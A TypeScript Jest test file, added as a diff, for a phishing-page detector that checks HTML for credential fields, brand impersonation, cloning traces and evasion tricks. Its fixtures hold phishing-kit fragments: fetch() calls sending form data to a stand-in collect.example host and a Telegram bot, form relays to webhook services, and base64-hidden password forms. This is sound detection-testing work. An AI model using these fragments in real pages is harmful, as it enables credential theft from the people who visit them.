@@ -1,0 +1,186 @@
+import { type PageRuleId, pageRules } from '@haru/contracts';
+import { describe, expect, it } from '@jest/globals';
+import { checkPage } from './check-page.js';
+
+/** A page for each rule, with the line on which it matches. */
+const PAGES: Record<Exclude<PageRuleId, 'known.content'>, string> = {
+  'credential.password': '\n<input type="password">',
+  'credential.card': '\n<input autocomplete="cc-number">',
+  'credential.security-code': '\n<label>セキュリティコード<input type="tel"></label>',
+  'credential.one-time-code': '\n<input autocomplete="one-time-code">',
+  'credential.pin': '<table><tr><td>暗証番号</td><td>\n<input name="a"></td></tr></table>',
+  'credential.seed-phrase': '\n<textarea placeholder="12-word seed phrase"></textarea>',
+  'brand.title': '\n<title>【重要】三井住友カードからのお知らせ</title>',
+  'brand.mention': '\n<title>三井住友カードの新しい看板を見た</title>',
+  'brand.heading': '\n<div class="site-logo"><span>Ama</span>zon</div>',
+  'brand.field': '\n<input placeholder="Apple ID">',
+  'brand.icon': '\n<link rel="shortcut icon" href="https://www.smbc-card.com/favicon.ico">',
+  'brand.logo': '\n<img class="logo" src="https://www.netflix.com/x.png">',
+  'brand.image': '\n<img alt="PayPal" src="data:image/png;base64,AA==">',
+  'brand.copyright': '\n<footer>Copyright (C) 2026 Mizuho Bank, Ltd.</footer>',
+  'brand.links': '\n<a href="https://www.docomo.ne.jp/">x</a>'.padEnd(2).repeat(5),
+  'brand.source': '\n<!-- saved from url=(0029)https://login.rakuten-card.co.jp/x -->',
+  'target.form': '\n<form action="https://collect.example/a">',
+  'target.request': "\n<script>fetch('https://collect.example/a')</script>",
+  'target.chat-hook': "\n<script>fetch('https://api.telegram.org/bot1:A/sendMessage')</script>",
+  'target.form-relay': '\n<form action="https://formspree.io/f/a">',
+  'clone.saved-page': '\n<!-- saved from url=(0020)https://example.com/ -->',
+  'clone.copier': '\n<!-- Mirrored from example.com by HTTrack Website Copier -->',
+  'evasion.developer-tools': '\n<body oncontextmenu="return false">',
+  'evasion.hidden-form': `\n<script>write(atob('${Buffer.from('<b>x</b><input type="password">').toString('base64')}'))</script>`,
+  'evasion.encoded-page': `\n<script>write(atob('${Buffer.from('<p>いろはにほへと</p>'.repeat(30)).toString('base64')}'))</script>`,
+  'evasion.redirect': '\n<meta http-equiv="refresh" content="0; url=https://example.com/">',
+};
+const LINES: Partial<Record<PageRuleId, number>> = { 'brand.links': 6, 'evasion.encoded-page': 1 };
+
+describe('checkPage', () => {
+  it.each(Object.entries(PAGES))('finds %s, and says where', (rule, html) => {
+    const found = checkPage(html).signals.find((signal) => signal.rule === rule);
+    const line = LINES[rule as PageRuleId] ?? 2;
+    expect(found).toMatchObject({ line, weight: pageRules[rule as PageRuleId].weight });
+  });
+
+  it.each(Object.entries(PAGES))('does not refuse a page for %s alone', (_, html) => {
+    expect(checkPage(html).outcome).toBe('passed');
+  });
+
+  it('finds the form and the name behind more than can be read within the time', () => {
+    const padding = '<a href="#">いろは</a>'.repeat(40_000);
+    const html = `${padding}<h1>楽天カード ログイン</h1><form>\n<label for="p">パスワード</label><input id="p"></form>`;
+    expect(checkPage(html, 40)).toMatchObject({
+      outcome: 'refused',
+      isComplete: false,
+      signals: expect.arrayContaining([expect.objectContaining({ rule: 'credential.password', line: 2, column: 29 })]),
+    });
+  });
+
+  it('gives the line of the string in a script, and an excerpt of what it writes', () => {
+    const html = `<p>\n<script>\n  var a = 1;\n  write("\\x3cinput type=password\\x3e")</script>`;
+    expect(checkPage(html).signals).toMatchObject([
+      { rule: 'credential.password', line: 4, column: 10, excerpt: '<input type=password>' },
+    ]);
+  });
+
+  it.each([
+    ['half of a pair', `<input type="password" placeholder="${'a'.repeat(83)}😀">`, /a\ufffd$/],
+    ['a NUL', String.raw`<script>write("<input type='password' name='\0'>")</script>`, /name=' '>$/],
+  ])('shows no %s that Postgres would refuse', (_, html, shown) => {
+    expect(checkPage(html).signals[0]?.excerpt).toMatch(shown);
+  });
+
+  it.each([
+    ['a search form on a page about a brand', '<title>Netflix</title><h1>Netflix</h1><input type="search" name="q">'],
+    ['a key of an API', '<title>ChatGPT</title><input type="password" placeholder="API key (sk-...)">'],
+    ['news behind a form to sign in', '<title>Amazon、増収増益 | 朝のニュース</title><input type="password">'],
+    ['a warning', '<title>楽天カードをかたるフィッシング</title><h1>楽天カード</h1><input type="search">'],
+    ['another word that has a name in it', '<title>Pineapple online</title><h1>Airline</h1><input type="password">'],
+    [
+      'ways to sign in',
+      '<title>ログイン</title><input type="password"><button><img alt="Google logo">Googleでログイン</button>',
+    ],
+    ['means of payment', '<input name="cardnumber"><img alt="VISA"><img alt="JCB"><img alt="American Express">'],
+    ['a review with a comment form', '<title>Netflixの感想まとめ</title><h1>Netflix</h1><input type="password">'],
+    ['a guide for developers', '<title>Googleログインの実装方法</title><h1>Google</h1><input type="password">'],
+    [
+      "a page of a platform's user",
+      '<title>道具</title><meta property="og:url" content="https://github.com/me/tool"><input type="password">',
+    ],
+    ['code that is shown', '<title>PayPal</title><pre>&lt;input type="password"&gt;</pre>'],
+    ['markup in a comment', '<title>PayPal</title><!-- <input type="password"> -->'],
+  ])('passes %s', (_, html) => {
+    expect(checkPage(html).outcome).toBe('passed');
+  });
+
+  it.each([
+    ['a name without a heading', '<div><b>PayPal</b></div><input type="password">'],
+    ["a copy of a platform's sign-in", '<link rel="canonical" href="https://github.com/login"><input type="password">'],
+    [
+      'a label elsewhere on a page that is not read to its end',
+      `<title>PayPal</title><label for="a">パスワード</label><hr><p>x</p><input id="a">${'<a>'.repeat(340_000)}`,
+    ],
+    ['a name in a header', '<p>x<div class="page-header"><p>PayPal</p></div><input type="password">'],
+    ['a form in SVG', '<title>PayPal</title><svg><style><form><input type="password">'],
+    [
+      'a regular expression with a quotation mark',
+      `<title>PayPal</title><script>x=/"/;write('<input type="password">')</script>`,
+    ],
+    [
+      'a literal that opens a comment',
+      `<title>PayPal</title><script>a='<!--';write('<input type="password">')</script>`,
+    ],
+    [
+      'JSX',
+      '<title>PayPal</title><script type="text/babel">const A=()=><form><input type="password"/></form></script>',
+    ],
+    ['a template element', '<title>PayPal</title><template><input type="password"></template>'],
+    [
+      'a page that sends to a chat',
+      `<img alt="PayPal" class="logo"><input type="password"><script>fetch("https://api.telegram.org/bot1")</script>`,
+    ],
+  ])('refuses %s', (_, html) => {
+    expect(checkPage(html).outcome).toBe('refused');
+  });
+
+  it.each([
+    [
+      'a field whose input goes to a chat',
+      '<input type="password"><script>fetch("https://api.telegram.org/bot1:A/sendMessage")</script>',
+    ],
+    [
+      'a hidden field on a page that blocks developer tools',
+      `<body oncontextmenu="return false"><script>write(atob('${btoa('<b>x</b><input type="password">')}'))</script>`,
+    ],
+    [
+      'a name in the title, and a relay of forms',
+      '<title>三井住友カードの新しい看板を見た</title><form action="https://webhook.site/x"><input type="password"></form><hr>',
+    ],
+  ])('gives the notice to %s', (_, html) => {
+    expect(checkPage(html).outcome).toBe('notice');
+  });
+
+  it('is no slower for pages that are made to be slow', () => {
+    for (const [name, html] of slowPages()) {
+      const before = process.threadCpuUsage();
+      const { outcome } = checkPage(html);
+      const { user, system } = process.threadCpuUsage(before);
+      expect([name, outcome]).toEqual([name, 'passed']);
+      // About 150 ms on a machine with nothing else to do; time that grows with the square would be minutes.
+      expect([name, user + system < 2_000_000]).toEqual([name, true]);
+    }
+  });
+});
+
+const MIB = 1024 * 1024;
+const fill = (part: string): string => part.repeat(Math.floor(MIB / part.length));
+const inScript = (code: string): string => `<script>${code}</script>`;
+
+function slowPages(): [string, string][] {
+  let nested = '<i>x</i>';
+  for (let depth = 0; depth < 12; depth++) {
+    nested = inScript(`write(atob("${Buffer.from(nested).toString('base64')}"))`);
+  }
+  return [
+    ['attributes', `<div ${Array.from({ length: 150_000 }, (_, index) => `a${index}`).join(' ')}>`],
+    ['handlers', `<div ${Array.from({ length: 60_000 }, (_, index) => `on${index}="a('b')"`).join(' ')}>`],
+    ['nested pages', fill(nested)],
+    ['a long literal of markup', inScript(`a="${fill('<b class=a>')}"`)],
+    ['escapes', inScript(`a="${fill('\\x3c\\u0062')}"`)],
+    ['unclosed literals', inScript(fill(`'\\`))],
+    ['escaped quotation marks', inScript(`'${fill(`\\'`)}`)],
+    ['regular expressions', inScript(fill('=/['))],
+    ['template literals', inScript(fill('`${'))],
+    ['joined literals', inScript(fill('"a"+'))],
+    ['character codes', inScript(fill('60,'))],
+    ['almost base64', inScript(`"${fill('AAAA')}!"`)],
+    ['base64 of nothing', fill('QUFBQUFB')],
+    ['spaces', `<title>${fill(' ')}</title><script>"${fill('A ')}!"</script>`],
+    ['tags that do not end', fill('<a')],
+    ['one text', fill('いろはにほへと ちりぬるを ')],
+    ['headings', fill('<h1>Amazon')],
+    ['hosts', Array.from({ length: 30_000 }, (_, index) => `<a href=https://h${index}.example.com/>`).join('')],
+    ['copyright signs', `<p>${fill('©ア')}`],
+    ['nested headings', fill('<div class="logo">')],
+    ['headings that open nothing', fill('<hr class="header">x')],
+    ['titles', fill('<meta property=og:title content="Amazon の 楽天">')],
+  ];
+}
